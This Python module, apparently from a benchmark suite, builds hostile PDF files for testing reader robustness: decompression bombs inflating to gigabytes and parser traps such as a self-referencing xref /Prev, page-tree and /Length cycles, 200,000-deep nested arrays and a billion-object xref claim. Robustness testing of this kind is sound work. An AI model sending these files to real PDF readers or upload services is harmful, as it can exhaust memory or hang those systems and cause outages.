"""PDFs that attack the reader: decompression bombs and parser loops.

Each is made here, in a few milliseconds, and is small on the wire; what
it asks of a reader is gigabytes of memory or an endless walk.
"""

from __future__ import annotations

import struct
import zlib

from edocx.bench.sign import assemble_pdf as make_pdf

MB = 1 << 20


def zeros_deflated(megabytes: int, *, extra: int = 0) -> bytes:
    """A zlib stream of ``megabytes`` MiB (and ``extra`` bytes) of zeros.

    It is made without inflating it: after a full flush the compressor
    forgets what it saw, so every further MiB of zeros compresses to the
    same bytes. One piece is repeated, and the stream closed with an empty
    final block and its Adler-32.
    """
    block = bytes(MB)
    compressor = zlib.compressobj(9)
    head = compressor.flush(zlib.Z_FULL_FLUSH)  # the zlib header
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(bytes(extra)) + compressor.flush(zlib.Z_FULL_FLUSH)
    # Adler-32 of n zeros: the byte sum stays 1, the sum of sums is n.
    checksum = ((megabytes * MB + extra) % 65521) << 16 | 1
    # An empty final block of fixed codes: BFINAL=1, BTYPE=01, end of block.
    final = b"\x03\x00"
    body = head + piece * megabytes + tail
    return body + final + struct.pack(">I", checksum)


def black_png(width: int, height: int) -> bytes:
    """A PNG of ``width`` x ``height`` black RGB pixels, small on the wire."""
    raw = height * (1 + 3 * width)  # a filter byte, then the row
    data = zeros_deflated(raw // MB, extra=raw % MB)

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def stream(dictionary: bytes, data: bytes) -> bytes:
    return (
        b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data))
        + data
        + (b"\nendstream")
    )


def one_page(content: bytes, resources: bytes = b"<< >>") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources " + resources + b" >>",
        content,
    ]


def content_bomb(megabytes: int) -> bytes:
    """A page whose content stream inflates twice to ``megabytes`` MiB."""
    twice = zlib.compress(zeros_deflated(megabytes), 9)
    return make_pdf(one_page(stream(b"/Filter [/FlateDecode /FlateDecode]", twice)))


def image_bomb() -> bytes:
    """A page drawing a 60000 x 60000 RGB image (10 GB raw) of zeros."""
    data = zlib.compress(zeros_deflated(64), 9)
    image = stream(
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000"
        b" /ColorSpace /DeviceRGB /BitsPerComponent 8"
        b" /Filter [/FlateDecode /FlateDecode]",
        data,
    )
    pdf = one_page(
        stream(b"", b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
        b"<< /XObject << /Im1 5 0 R >> >>",
    )
    return make_pdf([*pdf, image])


def object_stream_bomb(megabytes: int) -> bytes:
    """A catalog kept in an object stream that inflates to ``megabytes`` MiB."""
    inner = zlib.compress(zeros_deflated(megabytes), 9)
    objstm = stream(
        b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", inner
    )
    return make_pdf([*one_page(stream(b"", b"")), objstm])


def xref_loop() -> bytes:
    """A trailer whose /Prev points back at its own cross-reference table."""
    plain = make_pdf(one_page(stream(b"", b"BT ET")))
    xref = int(plain.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return make_pdf(one_page(stream(b"", b"BT ET")), trailer=b"/Prev %d " % xref)


def page_tree_cycle() -> bytes:
    """A page tree whose inner node lists its own parent as a kid."""
    return make_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
    ])  # fmt: skip


def length_cycle() -> bytes:
    """A stream whose /Length refers to an object that refers back."""
    return make_pdf([
        *one_page(b"<< /Length 5 0 R >>\nstream\nBT ET\nendstream"),
        b"6 0 R",
        b"5 0 R",
    ])  # fmt: skip


def deep_arrays(depth: int = 200_000) -> bytes:
    """A catalog entry of arrays nested ``depth`` deep."""
    nested = b"[" * depth + b"]" * depth
    return make_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Junk " + nested + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ])  # fmt: skip


def huge_xref_claim() -> bytes:
    """A cross-reference table that claims a billion objects."""
    pdf = make_pdf(one_page(stream(b"", b"BT ET")))
    return pdf.replace(b"/Size 5 ", b"/Size 1000000000 ").replace(
        b"xref\n0 5\n", b"xref\n0 1000000000\n"
    )


BOMBS = {
    "content-2GiB": lambda: content_bomb(2048),
    "image-10GB": image_bomb,
    "object-stream-2GiB": lambda: object_stream_bomb(2048),
    "xref-prev-loop": xref_loop,
    "page-tree-cycle": page_tree_cycle,
    "length-cycle": length_cycle,
    "deep-arrays": deep_arrays,
    "huge-xref-claim": huge_xref_claim,
}
